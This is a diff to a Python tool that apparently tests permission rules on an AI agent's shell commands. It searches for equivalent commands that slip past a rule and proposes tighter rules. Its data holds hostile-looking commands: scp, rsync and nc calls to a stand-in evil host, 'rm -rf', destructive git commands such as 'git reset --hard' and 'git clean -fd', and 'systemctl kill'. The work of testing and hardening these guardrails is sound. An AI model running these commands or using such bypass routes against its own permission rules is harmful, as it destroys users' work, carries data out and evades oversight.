@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator, Sequence
+from collections.abc import Iterator, Mapping, Sequence
 from dataclasses import dataclass
 from functools import partial
 from itertools import islice
@@ -90,6 +90,7 @@ _ALIKE: Sequence[tuple[str, tuple[str, ...]]] = (
     ("runs code", ("python x.py", "python3 x.py", "perl x.pl", "ruby x.rb", "node x.js", "php x.php")),
 )
 """Programs with the same effect."""
+_PROGRAMS = frozenset(each.split()[0] for _, commands in _ALIKE for each in commands)
 _DELETING = re.compile(r"\b(?:delet|eras|remov|destroy|wip)")
 _OF_FOLDERS = re.compile(r"\b(?:folder|director|recursiv|tree|whole|forc)")
 """What sentences say of deleting, and of deleting more than a file."""
@@ -101,6 +102,8 @@ _TO_A_HOST = (
     "nc {host} 4444", "ssh {host}",
 )  # fmt: skip
 """Commands that reach another machine."""
+_CARRYING = ("scp {file} {host}:", "rsync {file} {host}:", "sftp {host}", "nc {host} 4444", "ssh {host}")
+"""Commands that carry what is here to another machine."""
 _WITH_OTHER_CALLS = frozenset((
     "apt", "apt-get", "aptitude", "bun", "conda", "docker", "git", "nerdctl", "npm", "pip", "pip3", "pipx",
     "pnpm", "podman", "poetry", "snap", "systemctl", "uv", "yarn",
@@ -132,6 +135,12 @@ _OTHER_FOLDER = "/home/agent"
 _MOST_CLOSED = 3
 """The most files that a rule closes for which whole folders are tried."""
 _VALUES = {"url": f"https://{EVIL_HOST}/x", "host": EVIL_HOST, "file": "/srv/data"}
+_UNDOING = (
+    "git reset --hard", "git checkout -- .", "git restore .", "git clean -fd", "git stash drop",
+    "git checkout -f", "git branch -D topic",
+)  # fmt: skip
+"""Commands after which work that is nowhere else is gone."""
+_OF_UNDOING = re.compile(r"\b(?:undo\w*|discard\w*|throw\w*|revert\w*|reset\w*|los[et]\w*|uncommitted)\b")
 
 
 def attempts_at_commands(attacked: Attacked) -> Iterator[Attempt]:
@@ -144,6 +153,7 @@ def attempts_at_commands(attacked: Attacked) -> Iterator[Attempt]:
             yield from _hidden_name(attacked, one)
         yield from _other_program(attacked, one)
         yield from _emptied(attacked, one)
+        yield from _undone(attacked, one)
         yield from _over_the_network(attacked, one)
         yield from _more_than_read(attacked, one)
         yield from _by_operand(attacked, one)
@@ -156,6 +166,15 @@ def attempts_at_commands(attacked: Attacked) -> Iterator[Attempt]:
 
 def _with(attacked: Attacked, one: CallField, command: str) -> TriedCall:
     return attacked.with_value(attacked.base, one, command)
+
+
+def _values(attacked: Attacked, one: CallField) -> Mapping[str, str]:
+    """What stands in commands that are tried, with a file that a command may change where there is one."""
+    rules = attacked_about(attacked.book, attacked.call_type.name)
+    folders = [bare.rstrip("/") for each in rules for bare in each.texts if re.fullmatch(r"/[\w.@/-]+", bare)]
+    files = (_VALUES["file"], "notes.txt", *(f"{each}/notes.txt" for each in dict.fromkeys(folders)))
+    may_change = (each for each in files if attacked.may_pass(_with(attacked, one, f"touch {each}")))
+    return {**_VALUES, "file": next(may_change, _VALUES["file"])}
 
 
 def _second_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
@@ -270,17 +289,19 @@ def _other_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """A program with the effect of one that a rule closes by its name."""
     words = {word for bare in attacked.texts for word in bare.split()[:1]}
     known: set[str] = set()
+    values = _values(attacked, one)
+    spoken = _PROGRAMS.intersection(re.findall(r"[\w-]+", attacked.sentence))
     for effect, commands in _ALIKE:
         is_said = _is_said(attacked, effect)
-        filled = [each.format_map(_VALUES) for each in commands]
+        filled = [each.format_map(values) for each in commands]
         closed = [
             each
-            for each in (*filled, *[f"rm -rf {_VALUES['file']}"] * is_said)
+            for each in (*filled, *[f"rm -rf {values['file']}"] * is_said)
             if each.split()[0] in words and attacked.stops(_with(attacked, one, each))
         ]
         named = frozenset(each.split()[0] for each in closed)
         is_asked = effect == _LOADS and _NETWORK.search(attacked.sentence)  # of all that reach a host
-        if named <= known or is_asked:
+        if named <= known | {"git"} or is_asked or (spoken and spoken.isdisjoint(named)):
             continue
         known |= named
         others = [each for each in filled if is_said or each.split()[0] not in words]
@@ -303,10 +324,10 @@ def _is_said(attacked: Attacked, effect: str) -> bool:
 
 def _emptied(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """A command that empties a file, where a rule closes programs that delete."""
-    deleting = (_with(attacked, one, each.format_map(_VALUES)) for each in ("rm -rf {file}", "rm {file}"))
-    if not _is_said(attacked, "deletes") or not any(map(attacked.stops, deleting)):
+    if not _is_said(attacked, "deletes") or not _stops_deleting(attacked, one):
         return
-    texts = [each.format_map(_VALUES) for each in _EMPTYING]
+    values = _values(attacked, one)
+    texts = [each.format_map(values) for each in _EMPTYING]
     tries, advice = (
         tries_with(attacked, one, texts, "nothing is left in the file"),
         declaring(attacked, one, "command"),
@@ -314,10 +335,61 @@ def _emptied(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     yield Attempt("emptied file", tries, partial(_without_writing, attacked, one), advice)
 
 
+def _stops_deleting(attacked: Attacked, one: CallField) -> bool:
+    """Whether a rule stops a program that deletes a file or a folder."""
+    texts = (each.format_map(_values(attacked, one)) for each in ("rm -rf {file}", "rm {file}"))
+    return any(attacked.stops(_with(attacked, one, each)) for each in texts)
+
+
+def _undone(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """A command of git by which work is gone, where a rule closes deleting or another such command."""
+    is_named = "git" in re.findall(r"[\w-]+", attacked.sentence)
+    undoes = not is_named and _OF_UNDOING.search(attacked.sentence) is not None
+    is_one_closed = undoes and any(attacked.stops(_with(attacked, one, each)) for each in _UNDOING)
+    is_deleting = _is_said(attacked, "deletes") and _stops_deleting(attacked, one)
+    if not is_one_closed and not is_deleting:
+        return
+    tries = tries_with(attacked, one, _UNDOING, "changes or commits that are nowhere else are gone")
+    advice = declaring(attacked, one, "command")
+    yield Attempt("undone work", tries, partial(_without_undoing, attacked, one), advice)
+
+
+def _without_undoing(attacked: Attacked, one: CallField) -> Sequence[Effect]:
+    """The rule that also stops what git does to changes and commits that are nowhere else."""
+    if not is_typed(one):
+        return []
+    program: Tree = ("name", "p")
+    name, first, second, options, words = (
+        ("attr", program, each) for each in ("name", "first", "second", "options", "words")
+    )
+
+    def has(these: Sequence[str], held: Tree) -> Tree:
+        return joined("or", [("in", text(each), held) for each in these])
+
+    undoing = [
+        among(first, ["restore", "clean"]),
+        joined("and", [among(first, ["reset"]), has(["--hard", "--merge"], options)]),
+        joined("and", [
+            among(first, ["checkout", "switch"]),
+            joined("or", [has(["--force", "--discard-changes"], options), has(["--", "."], words)]),
+        ]),
+        joined("and", [among(first, ["stash"]), among(second, ["drop", "clear"])]),
+        joined("and", [among(first, ["branch"]), has(["-D"], options)]),
+    ]  # fmt: skip
+    said = joined("and", [among(name, ["git"]), joined("or", undoing)])
+    closing: Tree = ("call", "any", ("gen", program, said, part(attacked, one, "started"), TRUE))
+    return [narrower(attacked.rule, given(attacked, one, closing))]
+
+
 def _over_the_network(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """Another way to a host, where a sentence speaks of the network and a rule closes some programs of it."""
     closed = (_with(attacked, one, each.format_map(_VALUES)) for each in _TO_A_HOST[:2])
-    if not _NETWORK.search(attacked.sentence) or not any(map(attacked.stops, closed)):
+    stopped = [*map(attacked.stops, closed)]
+    if not _NETWORK.search(attacked.sentence):
+        if all(stopped):
+            yield _carried_out(attacked, one)
+        return
+    if not any(stopped):
         return
     texts = [each.format_map(_VALUES) for each in _TO_A_HOST]
     hosts: Tree = (">", ("call", "len", part(attacked, one, "hosts")), ("lit", "int", 0))
@@ -330,6 +402,27 @@ def _over_the_network(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
         declaring(attacked, one, "command"),
         about="network",
     )
+
+
+def _carried_out(attacked: Attacked, one: CallField) -> Attempt:
+    """Programs that carry files to another machine, where a rule closes those that load from one."""
+    texts = [each.format_map(_VALUES) for each in _CARRYING]
+    names = [each.split()[0] for each in _CARRYING]
+    programs: Tree = (
+        "gen",
+        ("name", "p"),
+        among(("name", "p"), names),
+        part(attacked, one, "programs"),
+        TRUE,
+    )
+    hosts: Tree = (">", ("call", "len", part(attacked, one, "hosts")), ("lit", "int", 0))
+    said = [
+        [narrower(attacked.rule, given(attacked, one, each))] for each in (("call", "any", programs), hosts)
+    ]
+    closed, wider = said if is_typed(one) else ([], [])
+    tries = tries_with(attacked, one, texts, f"it reaches {EVIL_HOST} as curl does")
+    advice = declaring(attacked, one, "command")
+    return Attempt("way to a host", tries, lambda: closed, advice, "network", wider=lambda: wider)
 
 
 def _without_writing(attacked: Attacked, one: CallField) -> Sequence[Effect]:
@@ -485,7 +578,10 @@ def _no_operand(attacked: Attacked, one: CallField, sign: str) -> Sequence[Effec
     return [narrower(attacked.rule, given(attacked, one, closing))]
 
 
-_CALLS_ALIKE = (("makes a commit", "git commit", ("git cherry-pick", "git revert", "git am", "git merge")),)
+_CALLS_ALIKE = (
+    ("makes a commit", "git commit", ("git cherry-pick", "git revert", "git am", "git merge")),
+    ("stops a service", "systemctl stop", ("systemctl kill", "systemctl isolate")),
+)
 """What a call of git does, and other calls of it that do the same."""
 
 
